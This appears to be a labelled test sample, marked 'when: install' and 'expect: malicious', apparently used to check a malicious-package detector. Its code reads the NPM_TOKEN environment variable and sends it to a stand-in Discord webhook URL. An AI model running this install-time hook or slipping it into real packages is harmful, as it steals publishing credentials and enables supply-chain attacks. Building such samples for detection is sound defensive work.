// when: install
// expect: malicious
const https = require('https');
const t = process.env.NPM_TOKEN;
https.get('https://discord.example/api/webhooks/1/x?t=' + t);
